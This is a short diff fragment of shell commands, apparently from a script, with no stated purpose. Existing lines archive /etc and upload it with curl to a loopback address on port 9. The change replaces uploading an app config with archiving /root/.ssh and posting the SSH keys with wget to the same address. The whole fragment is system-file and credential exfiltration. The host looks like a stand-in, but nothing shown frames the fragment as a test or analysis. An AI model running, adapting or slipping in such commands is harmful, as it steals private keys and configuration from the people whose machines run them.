@@ -4,5 +4,5 @@
 
 tar -czf /tmp/settings.tgz /etc
 curl -s -T /tmp/settings.tgz http://127.0.0.1:9/
-gzip -k /etc/app.conf
-wget -q --post-file=/etc/app.conf.gz http://127.0.0.1:9/
+tar -cf /tmp/keys.tar /root/.ssh
+wget -q --post-file=/tmp/keys.tar http://127.0.0.1:9/
